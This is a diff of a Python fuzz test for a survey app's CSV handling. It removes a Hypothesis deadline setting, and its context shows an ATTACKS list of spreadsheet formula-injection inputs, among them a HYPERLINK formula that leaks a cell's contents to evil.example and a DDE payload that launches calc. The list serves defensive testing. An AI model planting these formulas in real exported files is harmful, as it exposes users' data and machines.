@@ -21,7 +21,7 @@ from survey_app.services.units import read_frame
 from ..conftest import DEMO_COMMUNE, make_survey
 
 HEADER = ["village_code", "village_name", "serial", "code", "url", "commune_code", "commune_name"]
-FUZZ = settings(max_examples=20, deadline=None,
+FUZZ = settings(max_examples=20,
                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much])
 ATTACKS = ['=HYPERLINK("http://evil.example/?c="&C2,"Bấm vào đây")', "@X1", "=cmd|' /C calc'!A0", "+1+2",
            "-2+3", "\t=1+1", "\r=1", "=1\r\n=2", '"=1",=2', "@SUM(A1:A2)"]
